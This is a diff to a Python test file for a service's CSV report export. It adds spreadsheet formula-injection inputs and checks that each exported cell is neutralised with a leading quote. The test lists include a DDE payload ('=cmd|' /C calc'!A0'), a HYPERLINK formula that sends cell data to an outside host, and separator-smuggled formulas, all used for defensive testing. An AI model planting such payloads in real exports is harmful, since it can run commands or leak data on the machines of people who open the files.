@@ -24,12 +24,16 @@ PATH = "/v1/reports/interactions"
 ROW = DOCUMENT["components"]["schemas"]["ReportRow"]
 SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n"]
 """What begins a formula somewhere; the last three are skipped before one."""
+SEPARATORS = ["", ";", "\t", ",", "|", '"', "\r", "\n", "\r\n"]
+"""Behind which some spreadsheet of the world begins a cell; the first is the beginning."""
+BLANK = r"[\s\u200b\u0000-\u001f\u007f]*"
 HOSTILE = [
+    *(f"vip{separator}{sign}1+1" for separator in SEPARATORS[1:] for sign in ("=", "@", "\uff1d")), "vip; =1", 'a;"=1', "a;;-1", "a;\t=1",
     "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("https://a.example/?x="&A1,"y")', "=cmd|' /C calc'!A0",
     "\uff1dA1", 'a "quoted", name', '"', '""', ",", "a\r\nb", "a\nb", "a\rb", "a\tb", "'", "a;b", "\u2028", "\u0085", "b\u007f",
 ]  # fmt: skip
 """Names that owners may give."""
-TAGS = ["=1+1", "+cmd", "-x", "@SUM(1)", 'say "hello"', "a, b", "a;b", "'quoted'", '"', "\uff1d1", "x,\"y\",z"]
+TAGS = ["vip;=1+1", "a|@b", 'a"=1', "vip; +1", "=1+1", "+cmd", "-x", "@SUM(1)", 'say "hello"', "a, b", "a;b", "'quoted'", '"', "\uff1d1", "x,\"y\",z"]
 M_TYPES = {"text": "type text", "time": "type datetimezone", "whole number": "Int64.Type"}
 
 
@@ -48,6 +52,21 @@ def records(client: Client, query: str = "") -> list[list[str]]:
     read = rfc4180.read(answer.body)
     assert list(csv.reader(io.StringIO(answer.body.decode(), newline=""), strict=True)) == read
     return read
+
+
+def marked(text: str) -> str:
+    """A text as docs/reports.md says that a cell has it."""
+    text = re.sub(rf"""(^|[;,|"\t\r\n\u2028\u0085]{BLANK})(?=[=+\-@\uff1d\uff0b\uff0d\uff20])""", r"\1'", text)
+    return re.sub(r"(^|[;,|\"])(?=[\t\r\n])", r"\1'", text)
+
+
+def begins_no_formula(body: bytes) -> None:
+    """Fails where a spreadsheet would compute something, wherever it divides lines, and whatever quotes are to it."""
+    text = body.decode()
+    assert not [part for part in re.split(r"""[;,|"\t\r\n\u2028\u0085]""", text) if re.match(rf"{BLANK}[=+\-@\uff1d\uff0b\uff0d\uff20]", part)]
+    for delimiter in (",", ";", "\t", "|"):
+        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+            assert not [cell for cell in line if re.match(rf'["{BLANK[1:-2]}]*[=+\-@\uff1d\uff0b\uff0d\uff20]', cell)], (delimiter, line)
 
 
 def documented() -> list[dict[str, str]]:
@@ -81,8 +100,9 @@ def test_c11_hostile_names(server: Callcard, name: str) -> None:
     heading, row = records(server.operator())
     cells = dict(zip(heading, row, strict=True))
     assert cells["session"] == call.session
-    assert cells["serviceName"] == (f"'{name}" if name[0] in SIGNS else name)
+    assert cells["serviceName"] == marked(name)
     assert not [cell for cell in row if cell[:1] in SIGNS]
+    begins_no_formula(server.operator().get(PATH, headers={"Accept": "text/csv"}).body)
     assert server.operator().get(PATH).json["items"][0]["serviceName"] == name, "JSON has it as it is"
 
 
@@ -96,8 +116,9 @@ def test_c11_hostile_codes(server: Callcard) -> None:
         team.desk(server).saved(call, primaryCode=code, secondaryCode=f"{code}2")
     heading, *rows = records(server.operator())
     at = heading.index("primaryCode")
-    assert [row[at] for row in rows] == [f"'{code}" if code[0] in SIGNS else code for code in HOSTILE]
+    assert [row[at] for row in rows] == [marked(code) for code in HOSTILE]
     assert [row[at + 1] for row in rows] == [f"{row[at]}2" for row in rows]
+    begins_no_formula(server.operator().get(PATH, headers={"Accept": "text/csv"}).body)
 
 
 def test_c11_hostile_tags(server: Callcard) -> None:
@@ -108,7 +129,8 @@ def test_c11_hostile_tags(server: Callcard) -> None:
     heading, *rows = records(server.operator())
     cells = [row[heading.index("tags")] for row in rows]
     expected = [*TAGS, "; ".join(TAGS)]
-    assert cells == [f"'{cell}" if cell[0] in SIGNS else cell for cell in expected]
+    assert cells == [marked(cell) for cell in expected]
+    begins_no_formula(server.operator().get(PATH, headers={"Accept": "text/csv"}).body)
     found = records(server.operator(), "?tag=say%20%22hello%22")
     assert len(found) == 3 and all('say "hello"' in row[heading.index("tags")] for row in found[1:])
 
